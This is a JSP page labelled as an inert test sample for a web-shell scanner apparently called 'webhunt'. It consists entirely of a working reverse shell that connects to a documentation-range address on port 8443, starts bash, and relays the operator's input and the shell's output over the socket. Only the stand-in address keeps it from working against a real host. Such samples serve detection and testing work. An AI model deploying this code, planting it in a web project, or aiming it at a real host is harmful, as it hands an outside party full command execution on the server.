<%-- Inert test sample (webhunt): a connect-back shell: the bytes the operator sends on the socket
     are copied into the standard input of a shell the page starts, its output copied back.
     The address is a documentation range. --%>
<%@ page import="java.io.*,java.net.*" %>
<%
    Socket link = new Socket("198.51.100.33", 8443);
    Process sh = new ProcessBuilder("bash").redirectErrorStream(true).start();
    InputStream fromOp = link.getInputStream();
    OutputStream toSh = sh.getOutputStream();
    InputStream fromSh = sh.getInputStream();
    OutputStream toOp = link.getOutputStream();
    byte[] buf = new byte[1024];
    while (!link.isClosed()) {
        int n;
        if (fromOp.available() > 0 && (n = fromOp.read(buf)) > 0) { toSh.write(buf, 0, n); toSh.flush(); }
        if (fromSh.available() > 0 && (n = fromSh.read(buf)) > 0) { toOp.write(buf, 0, n); toOp.flush(); }
        Thread.sleep(40);
    }
%>
